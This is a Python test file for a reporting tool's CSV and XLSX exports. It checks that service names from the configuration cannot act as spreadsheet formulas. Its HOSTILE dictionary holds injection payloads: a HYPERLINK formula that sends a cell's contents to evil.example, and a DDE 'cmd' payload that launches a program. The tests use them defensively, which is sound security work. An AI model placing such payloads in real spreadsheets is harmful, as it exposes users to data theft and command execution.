"""Issue 24, spreadsheet formula injection, in the Engagement 8 exports: service names
are text people type in the configuration; ``decroche report engagement8 --format csv``
and ``--format xlsx`` must give a spreadsheet no formula to evaluate. Read back as a tool
would: the CSV with ``csv`` (the hostile name behind a single quote, numbers unchanged), the
workbook with openpyxl (no formula cell, the name unchanged as text)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
from aiohttp import web
from aiohttp.test_utils import TestClient

from tests.conftest import TEST_CONFIG, Database
from tests.service.metrics.test_engagement8 import edge_calls, ingest
from tests.support.processes import decroche_env, run_decroche

Client = TestClient[web.Request, web.Application]
HOSTILE = {
    "Accueil": '=HYPERLINK("http://evil.example/?"&A1,"cliquez")',
    "État civil": "+cmd|' /C calc'!A0",
    "Astreinte": "@SUM(1)",
}


def hostile_config(tmp_path: Path) -> Path:
    text = TEST_CONFIG.read_text()
    for name, hostile in HOSTILE.items():
        text = text.replace(f'name = "{name}"', f"name = {json.dumps(hostile)}")
    path = tmp_path / "municipality.toml"
    path.write_text(text)
    return path


def report(database: Database, tmp_path: Path, *args: str) -> Any:
    env = decroche_env(tmp_path, DATABASE_URL=database.dsn, DECROCHE_SECRET_KEY="k")
    config = str(hostile_config(tmp_path))
    period = ("--from", "2026-11-01", "--to", "2026-11-30")
    res = run_decroche("report", "engagement8", "--config", config, *period, *args, env=env)
    assert res.returncode == 0, res.stderr
    return res


async def test_engagement8_csv_neutralises_service_names(
    client: Client, database: Database, tmp_path: Path
) -> None:
    await ingest(client, edge_calls())
    rows = list(csv.DictReader(io.StringIO(report(database, tmp_path, "--format", "csv").stdout)))
    names = [r["name"] for r in rows]
    assert names[:3] == ["'" + h for h in HOSTILE.values()]
    for row in rows:
        int(row["received"])  # numbers stay numbers
        assert not any(v.startswith(("=", "+", "@")) for v in row.values()), row


async def test_engagement8_xlsx_writes_service_names_as_text(
    client: Client, database: Database, tmp_path: Path
) -> None:
    await ingest(client, edge_calls())
    out = tmp_path / "e8.xlsx"
    report(database, tmp_path, "--format", "xlsx", "--output", str(out))
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    figures = list(book["Engagement 8"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in figures[:3]] == list(HOSTILE.values())
    assert all(isinstance(r[1], int) for r in figures)  # « Reçus »: numbers
